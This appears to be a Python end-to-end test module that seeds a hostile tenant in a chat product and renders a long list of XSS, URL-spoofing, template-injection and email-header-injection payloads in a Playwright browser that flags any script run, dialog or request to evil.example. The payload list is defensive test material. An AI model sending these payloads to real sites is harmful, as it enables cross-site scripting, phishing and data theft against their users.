"""Hostile text, a browser that notes all that it could do, and a company in which every text is hostile."""

from __future__ import annotations

import http.client
import json
import re
from typing import Any

import redis
from playwright.sync_api import Browser, BrowserContext, Dialog, Page

from tests.e2e.product import Product

RUN = "__pwned(1)"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"--><img id=sodanpwn src=x onerror={RUN}>",
    f"]]><svg onload={RUN}>",
    f"<img id=sodanpwn src=x onerror={RUN}>",
    f"\"><img src=x onerror={RUN}>",
    f"'><svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"<template><img src=x onerror={RUN}></template>",
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a id=sodanpwn href=javascript:{RUN}>click</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/pixel.png>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
    "<form action=https://evil.example/><button id=sodanpwn>Sign in again</button></form>",
    "<sodan-widget id=sodanpwn></sodan-widget>",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f" vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDEpPC9zY3JpcHQ+",
    "blob:https://evil.example/1",
    "//evil.example/",
    "https:\\\\evil.example/",
    "https:///evil.example/",
    "https://evil.example\\@good.example/",
    "https://good.example@evil.example/",
    "http://good.example%00.evil.example/",
    f"[click](javascript:{RUN})",
    f"![x](https://evil.example/x.png \"onerror={RUN}\")",
    f"[url=javascript:{RUN}]x[/url] [img]https://evil.example/i.png[/img]",
    f":smile: :\"><img src=x onerror={RUN}>:",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% load x %} {0.__class__} %s %n",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"&lt;img src=x onerror={RUN}&gt; &#60;img src=x onerror={RUN}&#62; &#x3c;script&#x3e;",
    f"\\u003cimg src=x onerror={RUN}\\u003e",
    f"\u2028</script>\u2029<script>{RUN}</script>",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff",
    "Support\u200b (Sodan) \u0405upport",
    "\u0301" * 200 + "Zalgo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ef\U0001f1f5 \U00020bb7 \ue000",
    "w" * 3000,
    " ".join(f"https://link{number}.example/" for number in range(300)),
    "x\r\nBcc: victim@evil.example\r\n\r\n<b>body</b>",
    f"' onmouseover={RUN} style='position:fixed;inset:0' x='",
    f"\" onpointerenter={RUN} autofocus onfocus={RUN} x=\"",
    f"`-{RUN}-`'-{RUN}-'\"-{RUN}-\"",
]  # fmt: skip


class Watcher:
    """A browser context in which everything that hostile text could do is noted."""

    SCRIPT = """
        window.__seen = [];
        window.__pwned = (what) => window.__seen.push("ran " + what);
        for (const name of ["alert", "confirm", "prompt", "print"]) window[name] = () => window.__seen.push(name);
        document.addEventListener("securitypolicyviolation", (event) => window.__seen.push("policy " + event.violatedDirective + " " + event.blockedURI));
    """
    LOOK = """() => {
        const found = [...(window.__seen || [])];
        const roots = [document];
        for (let root; (root = roots.pop()); ) {
            for (const element of root.querySelectorAll("*")) {
                if (element.shadowRoot) roots.push(element.shadowRoot);
                if (element.id === "sodanpwn") found.push("element " + element.outerHTML.slice(0, 100));
                for (const attribute of element.attributes) {
                    if (/^on/i.test(attribute.name)) found.push("handler " + element.outerHTML.slice(0, 100));
                    const target = ["href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"].includes(attribute.name);
                    if (target && !/^(https?:|mailto:|tel:|[/?#.]|data:image\\/|blob:|$|[\\w-]+(\\.|\\/|$))/i.test(attribute.value)) found.push("address " + attribute.value.slice(0, 100));
                    if (["src", "action", "formaction", "data"].includes(attribute.name) && /evil\\.example/.test(attribute.value)) found.push("load " + attribute.value.slice(0, 100));
                }
                if (element.matches("a[target=_blank]") && !/noopener/.test(element.rel)) found.push("opener " + element.outerHTML.slice(0, 100));
            }
        }
        return found;
    }"""

    def __init__(self, browser: Browser, hosts: set[str]) -> None:
        self.hosts = hosts
        self.problems: list[str] = []
        self.context: BrowserContext = browser.new_context(locale="en-GB", viewport={"width": 1280, "height": 900})
        self.context.add_init_script(self.SCRIPT)
        self.context.on("request", lambda request: self._requested(request.url))
        self.page: Page = self.context.new_page()
        self.page.on("pageerror", lambda error: self.problems.append(f"{self.page.url}: {error}"))
        self.page.on("dialog", self._asked)
        self.page.on("popup", lambda popup: self.problems.append(f"popup {popup.url}"))
        self.page.on("framenavigated", lambda frame: self._requested(frame.url))
        self.page.on("console", lambda line: self._said(line.type, line.text))

    def _requested(self, url: str) -> None:
        host = re.sub(r"^[a-z]+://([^/?#]*).*", r"\1", url)
        if url.startswith(("http", "ws", "ftp")) and host not in self.hosts:
            self.problems.append(f"{self.page.url} asked for {url}")

    def _asked(self, dialog: Dialog) -> None:
        self.problems.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _said(self, kind: str, text: str) -> None:
        if kind == "error" and "Content Security Policy" in text:
            self.problems.append(f"{self.page.url}: {text}")

    def check(self) -> None:
        """Look at the page as it stands.

        Raises:
            AssertionError: something did what text does not do.
        """
        found = self.page.evaluate(self.LOOK)
        assert (found, self.problems) == ([], []), self.page.url


def ask(product: Product, method: str, path: str, body: Any, **headers: str) -> Any:
    """A request as any program can make it; what the JSON of its answer holds."""
    link = http.client.HTTPConnection("127.0.0.1", product.port, timeout=30)
    given = {"Host": f"hostile.localhost:{product.port}", "Content-Type": "application/json", **headers}
    link.request(
        method,
        path,
        json.dumps(body).encode() if body is not None else None,
        {name.replace("_", "-"): value.encode() if not value.isascii() else value for name, value in given.items()},
    )
    response = link.getresponse()
    text = response.read()
    link.close()
    assert response.status < 300, f"{path}: {response.status} {text[:500]!r} for {str(body)[:300]}"
    return json.loads(text) if text else None


def unlimit(product: Product, made: dict[str, Any]) -> None:
    """Start the company's rate limits over: this test says more in a minute than a person."""
    cache = redis.Redis.from_url(product.environment["REDIS_CACHE_URL"])
    for key in cache.scan_iter(f"*{made['prefix']}*limit.*"):
        cache.delete(key)


def one_line(payload: str, length: int = 120) -> str:
    """A payload for fields of one line."""
    return " ".join(payload.replace("\x01", "").split())[:length].strip() or "x"


SETUP = """
import json
from django.contrib.auth.hashers import make_password
from django.utils import timezone
from datetime import timedelta
from chat.models import ConversationLink, Conversation
from chat.services import ensure_operator
from tenants.accounts.models import Role, User
from tenants.accounts.services.api_keys import create_api_key
from tenants.accounts.services.people import add_owner
from tenants.hosts import ref_of
from tenants.names import tenant_prefix
from tenants.ids import new_id
from tenants.schemas.spares import take_spare
from tenants.scope import public_scope, tenant_scope
from visitors.models import Website
given = json.loads({given!r})
with public_scope():
    tenant = take_spare(name=given["company"], slug="hostile", language="en", time_zone="UTC")
    ref = ref_of(tenant, "hostile.localhost")
with tenant_scope(ref):
    hashed = make_password(given["password"])
    owner = add_owner(uuid=new_id(), email="owner@hostile.example", full_name=given["names"][0], password_hash=hashed, language="en", time_zone="UTC")
    ensure_operator(user=owner)
    for number, name in enumerate(given["names"][1:]):
        person = {{"email": f"person{{number}}@hostile.example", "full_name": name, "display_name": name, "title": name, "role": Role.OPERATOR}}
        # Mail about each message left goes to all who are active: three are enough until the messages are there.
        ensure_operator(user=User.objects.create(**person, password=hashed, is_active=number < 3))
    site = Website.objects.create(name=given["names"][0], allowed_origins=[given["origin"]], labels={{"en": given["label"]}}, accent="#112233")
    for name in given["names"][1:40]:
        Website.objects.create(name=name, allowed_origins=["https://shop.example"], labels={{"en": name[:24]}})
    key = create_api_key(by=owner, name=given["names"][2], scopes=["read", "write"]).text
    for name in given["names"][3:20]:
        create_api_key(by=owner, name=name, scopes=["read"])
print(json.dumps({{"website": site.key, "key": key, "prefix": tenant_prefix(ref.uuid), "schema": ref.schema_name}}))
"""
